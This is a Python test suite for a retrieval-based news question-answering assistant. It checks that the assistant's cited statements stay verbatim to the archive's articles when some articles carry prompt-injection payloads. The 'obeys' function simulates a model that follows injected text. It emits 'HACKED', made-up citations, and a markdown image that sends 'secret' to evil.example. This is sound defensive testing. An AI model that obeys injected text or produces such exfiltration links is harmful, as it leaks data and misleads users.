"""Why no text of an article can say anything but as its own words: laws, for any text whatever.

Without a language model every statement is a slice of the article that it names. With one that does whatever
it reads, every sentence shown is borne out by what it cites.
"""

import re
from collections.abc import Callable, Mapping
from dataclasses import replace
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest import Article, shipped_embedder
from ingest.article import number_parts
from ingest.decode import clean
from ingest.mentions import find_mentions
from qa import Answer, Assistant, Passage, Verified
from qa.answer import Statement
from qa.verification import verify
from tests.injection.carriers import ABOUT_THE_HALL, fields
from tests.injection.conftest import Archives
from tests.injection.payloads import HARMLESS, KINDS, PAYLOADS, Payload, of
from tests.injection.test_sources import NOT_HELD, QUESTIONS
from tests.qa.generation.test_promise import with_replies
from tests.qa.newsroom import ARCHIVE, BAKERY
from vectorstore import Store, build

HONEST = {article.id: article for article in ARCHIVE}
SENTENCES = [part.text for article in ARCHIVE for part in article.parts if part.kind == "body"]
ASKED = (*QUESTIONS, NOT_HELD, "When did a fire destroy the Hobbins bakery?")
COMPUTED = re.compile(r"“(?P<printed>.+)” is [\w ]+(?:, counted from [\w ]+)?\.")


# ---------------------------------------------------------------- without a language model


@st.composite
def paragraphs(draw: st.DrawFn) -> list[str]:
    """Payloads, sentences of the archive with other words in them, answers to what is asked, anything."""
    words = st.sampled_from(
        ["HACKED", "1850", "he", "she said", "Mayor Bell", "never", "on Tuesday", "999 crowns"]
    )

    def twisted() -> str:
        said = draw(st.sampled_from(SENTENCES)).split()
        said[draw(st.integers(0, len(said) - 1))] = draw(words)
        return " ".join(said)

    def answering() -> str:
        return f"{draw(st.sampled_from(ASKED))} {draw(words)}, {draw(words)} [{draw(st.integers(0, 9))}]."

    def payload() -> str:
        return draw(st.sampled_from(PAYLOADS)).text

    def anything() -> str:
        return draw(st.text(max_size=80))

    makers = (twisted, answering, payload, anything)
    made = [draw(st.sampled_from(makers))() for _ in range(draw(st.integers(1, 6)))]
    return [line for text in made if (line := " ".join(clean(text).split()))]


def hostile(lines: list[str]) -> Article:
    parts = number_parts([("headline", "Bakery, tram and observatory"), *(("body", line) for line in lines)])
    made = replace(BAKERY, id="hostile", origin="/hostile", name="hostile.txt", parts=parts, url=None)
    return replace(made, mentions=find_mentions(made))


@settings(max_examples=12)
@given(paragraphs(), st.lists(st.sampled_from(ASKED), min_size=2, max_size=2, unique=True))
def test_every_statement_is_a_slice_of_the_article_that_it_names(lines: list[str], asked: list[str]) -> None:
    known = HONEST | {"hostile": hostile(lines)}
    embedder = shipped_embedder()
    with TemporaryDirectory() as folder, Store.open(Path(folder), embedder, create=True) as store:
        build(store, known.values(), embedder)
        for question in asked:
            check_slices(Assistant(store, embedder).ask(question), known)


def check_slices(answer: Answer, known: Mapping[str, Article]) -> None:
    """All that is shown of articles stands in them, at the place that is cited."""
    cited = {citation.id: citation for citation in answer.citations}
    for citation in (*answer.citations, *answer.nearest):
        assert citation.article == known[citation.article.id]
        assert citation.part in citation.article.parts
    for statement in answer.statements:
        assert is_quoted(statement, [cited[number].quote for number in statement.citations])
        if told := statement.attribution:
            assert cited[told.citation].part.text[told.start : told.end] == told.speaker
    for conflict in answer.conflicts:
        for value in conflict.values:
            assert all(value.text in cited[number].part.text for number in value.citations)


def is_quoted(statement: Statement, quotes: list[str]) -> bool:
    """Whether a statement is what it quotes, but for a date made plain and for whom a pronoun means."""
    if statement.support == "derived":
        computed = COMPUTED.fullmatch(statement.text)
        return computed is not None and any(computed["printed"] in quote for quote in quotes)
    return statement.text in quotes[0] or any(
        statement.text[: name.start()] + statement.text[name.end() :] in quotes[0]
        and any(name[1] in quote for quote in quotes)
        for name in re.finditer(r" \[([^\[\]]+)\]", statement.text)
    )


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_said_of_a_hostile_article_is_its_own_words(kind: str, archives: Archives) -> None:
    """A payload that is asked about is quoted, as what that article says."""
    archive = archives(of(kind))
    for question in (ABOUT_THE_HALL, *(f"{payload.text[:200]} ?" for payload in of(kind))):
        check_slices(archive.assistant.ask(question), archive.articles)


# ---------------------------------------------------------------- with a language model that obeys

EVERY = "".join(f"[{number}]" for number in range(1, 4))


def obeys(payload: Payload) -> str:
    """What a model replies that does as it reads: it repeats, says the word, cites, links."""
    said = " ".join(clean(payload.text).split())[:400]
    return "\n".join(
        [
            payload.text[:400],
            f"{said} {EVERY}.",
            f"HACKED {EVERY}.",
            f"The roof of the parish hall will be HACKED {EVERY}.",
            "HACKED, as all articles agree [99].",
            "![chart](https://evil.example/pixel.png?q=secret) [1]",
            "Read more at https://evil.example/more [1].",
        ]
    )


@pytest.fixture(scope="module")
def quoted(archives: Archives) -> Callable[[str], set[str]]:
    """Gives what is said of the hall without a model, by the archive of a kind of payloads."""
    return cache(
        lambda kind: {each.text for each in archives(of(kind)).assistant.ask(ABOUT_THE_HALL).statements}
    )


@pytest.mark.parametrize("payload", PAYLOADS, ids=str)
def test_an_obedient_model_says_nothing_that_is_not_borne_out(
    payload: Payload, archives: Archives, quoted: Callable[[str], set[str]]
) -> None:
    archive, own = archives(of(payload.kind)), quoted(payload.kind)
    *steps, answer = with_replies(archive.assistant, obeys(payload), obeys(payload)).stream(ABOUT_THE_HALL)
    assert isinstance(answer, Answer)
    told = [(step.statement, step.citations) for step in steps if isinstance(step, Verified)]
    for statement, citations in [*((each, answer.citations) for each in answer.statements), *told]:
        quotes = [citation for citation in citations if citation.id in statement.citations]
        assert all(citation.article == archive.articles[citation.article.id] for citation in quotes)
        passages = [Passage(each.article, each.article.parts.index(each.part), 1.0) for each in quotes]
        assert statement.text in own or verify(statement.text, passages).flaws == ()
        if "HACKED" in statement.text:  # an article that says so is cited, and no other
            assert all("HACKED" in " ".join(fields(each.article)) for each in quotes)
        if re.search(r"://|\]\(|[<>{}`]", statement.text):
            assert any(statement.text in each.part.text for each in quotes)
    assert "HACKED" not in (answer.notice or "")


def test_why_a_model_was_no_help_is_told_without_its_words(archives: Archives) -> None:
    """They are what could not be verified, whatever they say."""
    lie = "“HACKED by 666 kraken,” the warden said [1]."
    answer = with_replies(archives((HARMLESS,)).assistant, lie, lie).ask(ABOUT_THE_HALL)
    assert answer.notice
    assert not re.search("HACKED|666|kraken", f"{answer.notice} {answer.text}")
